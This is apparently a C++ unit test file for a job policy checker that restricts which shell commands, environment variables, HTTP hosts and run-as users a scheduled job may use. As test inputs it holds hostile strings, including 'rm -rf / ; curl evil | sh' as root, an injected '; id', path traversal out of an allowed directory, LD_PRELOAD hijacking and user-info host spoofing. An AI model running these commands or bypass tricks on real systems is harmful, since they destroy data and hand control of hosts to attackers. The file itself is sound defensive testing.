#include "src/exec/job_policy.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "testing/status_matchers.h"

namespace chime::exec {
namespace {

using ::chime::testing::IsOk;
using ::chime::testing::StatusIs;
using ::testing::AllOf;
using ::testing::HasSubstr;

JobSpec Shell(std::vector<std::string> argv) {
  JobSpec spec;
  spec.executor.kind = ExecutorSpec::Kind::kShell;
  spec.executor.shell.argv = std::move(argv);
  return spec;
}

JobSpec Http(std::string url) {
  JobSpec spec;
  spec.executor.kind = ExecutorSpec::Kind::kHttp;
  spec.executor.http.url = std::move(url);
  return spec;
}

TEST(JobPolicy, AnEmptyPolicyAllowsEverything) {
  JobPolicy none;
  JobSpec sh = Shell({});
  sh.executor.shell.command = "rm -rf / ; curl evil | sh";
  sh.executor.shell.user = "root";
  EXPECT_THAT(CheckJobPolicy(none, sh), IsOk());
  EXPECT_THAT(CheckJobPolicy(none, Http("http://anything.example/")), IsOk());
}

TEST(JobPolicy, CommandsMustBeAllowedProgramsGivenAsArgv) {
  JobPolicy p;
  p.allowed_commands = {"/usr/local/bin/*", "/opt/etl/run"};
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/usr/local/bin/backup", "--all"})),
              IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/opt/etl/run"})), IsOk());
  // Not in the list; `*` does not cross a '/'.
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/bin/sh", "-c", "id"})),
              StatusIs(absl::StatusCode::kPermissionDenied,
                       AllOf(HasSubstr("shell.argv[0]"), HasSubstr("/bin/sh"),
                             HasSubstr("/usr/local/bin/*, /opt/etl/run"))));
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/usr/local/bin/sub/tool"})),
              StatusIs(absl::StatusCode::kPermissionDenied));
  // Climbing out of an allowed directory, or a name looked up in PATH.
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/usr/local/bin/../../../bin/sh"})),
              StatusIs(absl::StatusCode::kPermissionDenied,
                       HasSubstr("without . or ..")));
  EXPECT_THAT(CheckJobPolicy(p, Shell({"/usr/local/bin/./x"})),
              StatusIs(absl::StatusCode::kPermissionDenied));
  EXPECT_THAT(CheckJobPolicy(p, Shell({"backup"})),
              StatusIs(absl::StatusCode::kPermissionDenied,
                       HasSubstr("absolute path")));
  // A shell command line cannot be checked.
  JobSpec line = Shell({});
  line.executor.shell.command = "/usr/local/bin/backup; id";
  EXPECT_THAT(CheckJobPolicy(p, line),
              StatusIs(absl::StatusCode::kPermissionDenied,
                       HasSubstr("shell.command")));
}

TEST(JobPolicy, AllowedProgramsGetNoVariablesThatChangeWhatTheyRun) {
  JobPolicy p;
  p.allowed_commands = {"/usr/local/bin/*"};
  for (const char* name : {"LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "BASH_ENV",
                           "PYTHONPATH", "BASH_FUNC_ls%%", "NODE_OPTIONS"}) {
    JobSpec spec = Shell({"/usr/local/bin/backup"});
    spec.executor.shell.env[name] = "/tmp/evil";
    EXPECT_THAT(CheckJobPolicy(p, spec),
                StatusIs(absl::StatusCode::kPermissionDenied,
                         HasSubstr(std::string("shell.env.") + name)))
        << name;
  }
  JobSpec ok = Shell({"/usr/local/bin/backup"});
  ok.executor.shell.env["BACKUP_TARGET"] = "s3://bucket";
  EXPECT_THAT(CheckJobPolicy(p, ok), IsOk());
  // Without a command list the environment is the job's own business.
  JobSpec free = Shell({"/bin/true"});
  free.executor.shell.env["LD_PRELOAD"] = "x.so";
  EXPECT_THAT(CheckJobPolicy(JobPolicy{}, free), IsOk());
}

TEST(JobPolicy, HostsAreReadAsLibcurlReadsThem) {
  JobPolicy p;
  p.allowed_http_hosts = {"api.internal", "*.svc.example.com", "127.0.0.1:9000",
                          "[::1]"};
  EXPECT_THAT(CheckJobPolicy(p, Http("https://api.internal/hook")), IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Http("http://API.Internal:8080/")), IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Http("http://a.svc.example.com/x")), IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Http("http://a.b.svc.example.com/x")), IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Http("http://127.0.0.1:9000/run")), IsOk());
  EXPECT_THAT(CheckJobPolicy(p, Http("http://[::1]:7/")), IsOk());
  // "*.domain" is its subdomains, not the domain.
  EXPECT_THAT(CheckJobPolicy(p, Http("http://svc.example.com/")),
              StatusIs(absl::StatusCode::kPermissionDenied));
  EXPECT_THAT(CheckJobPolicy(p, Http("http://evilsvc.example.com/")),
              StatusIs(absl::StatusCode::kPermissionDenied));
  // A port in the entry must match; the scheme's default counts.
  EXPECT_THAT(CheckJobPolicy(p, Http("http://127.0.0.1/run")),
              StatusIs(absl::StatusCode::kPermissionDenied,
                       AllOf(HasSubstr("http.url"),
                             HasSubstr("host 127.0.0.1:80 is not among"))));
  // The user-info part is not the host.
  EXPECT_THAT(
      CheckJobPolicy(p, Http("http://api.internal@evil.example/")),
      StatusIs(absl::StatusCode::kPermissionDenied, HasSubstr("evil.example")));
  EXPECT_THAT(CheckJobPolicy(p, Http("http://api.internal.evil.example/")),
              StatusIs(absl::StatusCode::kPermissionDenied));
}

TEST(JobPolicy, RunAsReplacesTheJobsUserAndRefusesAnother) {
  JobPolicy p;
  p.run_as = "nobody:nogroup";
  JobSpec spec = Shell({"/bin/true"});
  EXPECT_THAT(CheckJobPolicy(p, spec), IsOk());
  spec.executor.shell.user = "root";
  EXPECT_THAT(
      CheckJobPolicy(p, spec),
      StatusIs(absl::StatusCode::kPermissionDenied,
               AllOf(HasSubstr("shell.user"), HasSubstr("nobody:nogroup"))));
  spec.executor.shell.user = "nobody";
  spec.executor.shell.group = "root";
  EXPECT_THAT(
      CheckJobPolicy(p, spec),
      StatusIs(absl::StatusCode::kPermissionDenied, HasSubstr("shell.group")));
  ShellExecutorSpec shell;
  ApplyRunAs(p, &shell);
  EXPECT_EQ(shell.user, "nobody");
  EXPECT_EQ(shell.group, "nogroup");
  p.run_as = "nobody";
  ApplyRunAs(p, &shell);
  EXPECT_EQ(shell.group, "");  // the user's primary group
}

TEST(JobPolicy, ValidationNamesTheBadEntry) {
  JobPolicy p;
  p.allowed_commands = {"/usr/bin/*", "bin/tool"};
  EXPECT_THAT(ValidateJobPolicy(p),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("api_jobs.allowed_commands[1]")));
  p.allowed_commands.clear();
  for (const char* bad :
       {"", "http://x", "a.com:0", "a.com:http", "x.*.com", "*", "[::1"}) {
    p.allowed_http_hosts = {"ok.example", bad};
    EXPECT_THAT(ValidateJobPolicy(p),
                StatusIs(absl::StatusCode::kInvalidArgument,
                         HasSubstr("api_jobs.allowed_http_hosts[1]")))
        << bad;
  }
  p.allowed_http_hosts = {"ok.example", "*.svc", "10.0.0.1:443", "[::1]:80",
                          "::1"};
  EXPECT_THAT(ValidateJobPolicy(p), IsOk());
  p.run_as = "no-such-user-chime";
  EXPECT_THAT(ValidateJobPolicy(p),
              StatusIs(absl::StatusCode::kInvalidArgument,
                       HasSubstr("no such user \"no-such-user-chime\"")));
  p.run_as = "nobody:no-such-group-chime";
  EXPECT_THAT(ValidateJobPolicy(p), StatusIs(absl::StatusCode::kInvalidArgument,
                                             HasSubstr("no such group")));
  p.run_as = "nobody";
  EXPECT_THAT(ValidateJobPolicy(p), IsOk());
}

}  // namespace
}  // namespace chime::exec
